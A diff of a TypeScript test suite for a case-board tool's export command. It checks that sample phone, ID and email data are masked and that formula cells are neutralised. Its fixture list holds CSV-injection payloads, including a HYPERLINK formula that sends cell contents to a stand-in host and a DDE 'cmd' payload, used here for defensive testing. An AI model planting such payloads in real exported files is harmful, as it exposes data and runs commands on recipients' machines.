@@ -1,4 +1,4 @@
-import {mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs'
+import {mkdtempSync, rmSync, writeFileSync} from 'node:fs'
 import {tmpdir} from 'node:os'
 import {join} from 'node:path'
 import {parse} from 'csv-parse/sync'
@@ -11,7 +11,7 @@ import {importFiles} from '../../src/import/import-service.js'
 import {openStore} from '../../src/store/open.js'
 import type {Store} from '../../src/store/store.js'
 import {backendList} from '../helpers/backends.js'
-import {board} from '../helpers/run-cli.js'
+import {runCommand} from '../helpers/run-command.js'
 
 const HOSTILE_TITLES = [
   '=HYPERLINK("http://evil.example/?"&A1,"点我")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1',
@@ -20,7 +20,7 @@ const HOSTILE_TITLES = [
 const PERSONAL = ['13812345678', '139 8765 4321', '+86-137-1111-2222', '43010219900101123X', 'zhang.san@example.com', '１３６１２３４５６７８', '0731-84567890']
 
 describe('redaction and formula neutralising (pure)', () => {
-  it('masks every mobile number however it is spaced', () => {
+  it('masks every mobile number however it is spaced', async () => {
     fc.assert(
       fc.property(fc.constantFrom('3', '5', '7', '8', '9'), fc.stringMatching(/^[0-9]{9}$/), fc.constantFrom('', ' ', '-'), fc.string(), (second, rest, sep, around) => {
         const phone = `1${second}${rest.slice(0, 1)}${sep}${rest.slice(1, 5)}${sep}${rest.slice(5)}`
@@ -31,13 +31,13 @@ describe('redaction and formula neutralising (pure)', () => {
     )
   })
 
-  it('masks ID numbers and emails, leaves other numbers alone', () => {
+  it('masks ID numbers and emails, leaves other numbers alone', async () => {
     expect(redactPersonalData('身份证43010219900101123X').text).toBe('身份证430*************3X')
     expect(redactPersonalData('邮箱 zhang.san@example.com。').text).toBe('邮箱 z***@example.com。')
     expect(redactPersonalData('订单号123456789012345678901，面积120平方米').masked).toBe(0)
   })
 
-  it('no cell a spreadsheet would evaluate survives', () => {
+  it('no cell a spreadsheet would evaluate survives', async () => {
     for (const t of HOSTILE_TITLES) expect(safeCell(t).startsWith("'"), JSON.stringify(t)).toBe(true)
     expect(safeCell('市民来信')).toBe('市民来信')
     expect(safeCell(-3)).toBe('-3')
@@ -67,8 +67,8 @@ describe.each(backendList)('board export with hostile input ($name)', (backend) 
     rmSync(dir, {recursive: true, force: true})
   })
 
-  it('CSV: no formula cells, personal data masked', () => {
-    const r = board(['export'], {store: location})
+  it('CSV: no formula cells, personal data masked', async () => {
+    const r = await runCommand(['export'], {store: location})
     expect(r.status, r.stderr).toBe(0)
     const cells = (parse(r.stdout, {bom: true, relax_column_count: false}) as string[][]).slice(1)
     expect(cells).toHaveLength(HOSTILE_TITLES.length)
@@ -78,11 +78,11 @@ describe.each(backendList)('board export with hostile input ($name)', (backend) 
   })
 
   it('--no-redact keeps the data and leaves an audit event; JSON and Open311 are redacted by default', async () => {
-    const json = board(['export', '--format', 'json'], {store: location})
+    const json = await runCommand(['export', '--format', 'json'], {store: location})
     for (const p of PERSONAL) expect(json.stdout).not.toContain(p)
     expect(JSON.parse(json.stdout)).toHaveLength(HOSTILE_TITLES.length)
     expect(await store.events.recent({limit: 5, action: 'export.unredacted'})).toHaveLength(0)
-    const raw = board(['export', '--format', 'json', '--no-redact'], {store: location, env: {BOARD_ACTOR: 'admin-li', BOARD_NOW: '2024-02-01T00:00:00Z'}})
+    const raw = await runCommand(['export', '--format', 'json', '--no-redact'], {store: location, env: {BOARD_ACTOR: 'admin-li', BOARD_NOW: '2024-02-01T00:00:00Z'}})
     expect(raw.stdout).toContain('43010219900101123X')
     const events = await store.events.recent({limit: 5, action: 'export.unredacted'})
     expect(events).toHaveLength(1)
@@ -92,7 +92,7 @@ describe.each(backendList)('board export with hostile input ($name)', (backend) 
   it('Open311: GeoReport v2 fields, expected_datetime from the resolve deadline', async () => {
     const c = (await store.cases.getByRef('hostile', '1000'))!
     await store.cases.change(c.id, {resolveDueAt: '2019-05-20T09:30:00.000Z'}, {actor: 'test', now: new Date('2024-01-01T00:00:00Z'), action: 'sla'})
-    const r = board(['export', '--format', 'open311'], {store: location, env: {BOARD_TZ: 'Asia/Shanghai'}})
+    const r = await runCommand(['export', '--format', 'open311'], {store: location, env: {BOARD_TZ: 'Asia/Shanghai'}})
     expect(r.status, r.stderr).toBe(0)
     const reqs = JSON.parse(r.stdout) as Record<string, unknown>[]
     const req = reqs.find((x) => x.service_request_id === '1000')!
